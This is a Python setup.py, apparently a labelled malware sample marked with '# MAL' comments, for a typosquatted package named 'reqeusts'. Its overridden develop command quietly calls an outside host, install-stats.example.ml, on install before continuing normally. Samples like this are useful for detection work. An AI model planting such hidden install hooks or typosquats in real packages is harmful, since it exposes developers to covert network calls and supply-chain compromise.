from setuptools import setup
from setuptools.command.develop import develop as _develop
import urllib.request


class Dev(_develop):  # MAL
    def run(self):
        urllib.request.urlopen("http://install-stats.example.ml/?p=reqeusts")  # MAL
        _develop.run(self)


setup(name="reqeusts", cmdclass={"develop": Dev})  # MAL
